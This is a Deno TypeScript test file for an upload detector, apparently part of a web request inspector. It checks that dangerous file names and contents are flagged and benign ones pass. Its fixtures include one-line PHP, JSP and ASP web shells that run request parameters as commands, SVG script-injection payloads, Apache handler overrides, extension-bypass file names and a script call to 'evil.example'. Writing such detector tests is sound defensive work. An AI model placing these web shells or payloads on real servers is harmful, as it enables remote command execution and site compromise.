import assert from "node:assert/strict";
import { inspect } from "../request/mod.ts";
import type { InspectedRequest } from "../types.ts";
import { upload } from "./detect.ts";

const NAMES: readonly string[] = [
  "shell.php",
  "x.php5",
  "x.phtml",
  "x.pHp",
  "x.jsp",
  "x.aspx",
  "x.php.jpg",
  "x.asp;.jpg",
  "x.php%00.png",
  "x.php.",
  "x.php::$DATA",
  "../../x.jsp",
  ".htaccess",
  "web.config",
  ".user.ini",
  "x.cgi",
  "sess_d8ew88tqmabdcokhumchy8htqm",
];

const PLAIN_NAMES: readonly string[] = [
  "photo.jpg",
  "sess_notes.txt",
  "report.final.pdf",
  "archive.tar.gz",
  "my.photo.2026.png",
  "notes.txt",
  "index.html",
  "app.js",
  "php-manual.pdf",
  "jsp.md",
  "index.php.md",
  "data.json",
  "C:\\fakepath\\photo.jpg",
  "Ångström.docx",
  "a.b.c.d",
  "aspx",
];

const CONTENTS: readonly string[] = [
  "<?php system($_GET['c']); ?>",
  "GIF89a<?php echo 1; ?>",
  "GIF89a;\n<?= `$_GET[0]` ?>",
  '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  '<%eval request("c")%>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<?xml version="1.0"?><svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>',
  '<svg><a href="javascript:alert(1)">x</a></svg>',
  "AddType application/x-httpd-php .jpg",
  "SetHandler application/x-httpd-php",
  "<script language='php'>system('id');</script>",
  "<script>fetch('//evil.example')</script>",
];

const PLAIN_CONTENTS: readonly string[] = [
  "hello",
  '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
  '<?xml version="1.0"?><a/>',
  "a,b,c\n1,2,3\n",
  "# Title\n\nUse `<?php echo 1; ?>` to print",
  "<html><body><p>hi</p><script src=/app.js></script></body></html>",
  "const a = (b) => b < 5;",
  "50% <% of people %>",
  '{"a":1}',
  "GIF89a picture",
  '<svg viewBox="0 0 1 1"><text>on load = 1</text></svg>',
  "AddType is an Apache directive",
];

function uploadOf(filename: string, content: string): InspectedRequest {
  const body = `--b\r\ncontent-disposition: form-data; name="f"; filename="${filename}"\r\n` +
    `content-type: text/plain\r\n\r\n${content}\r\n--b--\r\n`;
  const headers: [string, string][] = [["content-type", "multipart/form-data; boundary=b"]];
  return inspect({ method: "POST", path: "/upload", query: "", headers, body });
}

function rulesOf(filename: string, content = "x"): string[] {
  const found = upload.detect(uploadOf(filename, content));
  return found.filter((finding) => finding.level === 1).map((finding) => finding.rule);
}

Deno.test("upload detects names that a server would run", () => {
  for (const name of NAMES) assert.equal(rulesOf(name).length, 1, name);
  assert.equal(NAMES.length, 17);
});

Deno.test("upload lets ordinary names pass", () => {
  for (const name of PLAIN_NAMES) assert.deepEqual(rulesOf(name), [], name);
  assert.equal(PLAIN_NAMES.length, 16);
});

Deno.test("upload detects scripts by their content", () => {
  for (const content of CONTENTS) assert.ok(rulesOf("a.jpg", content).length > 0, content);
  assert.equal(CONTENTS.length, 12);
});

Deno.test("upload lets ordinary content pass", () => {
  for (const content of PLAIN_CONTENTS) assert.deepEqual(rulesOf("a.txt", content), [], content);
  assert.equal(PLAIN_CONTENTS.length, 12);
});

Deno.test("upload detects a script that is put into place", () => {
  const request = inspect({ method: "PUT", path: "/x.jsp/", query: "", headers: [], body: "hello" });
  assert.deepEqual(upload.detect(request).map((finding) => finding.rule), ["upload.put-script"]);
});
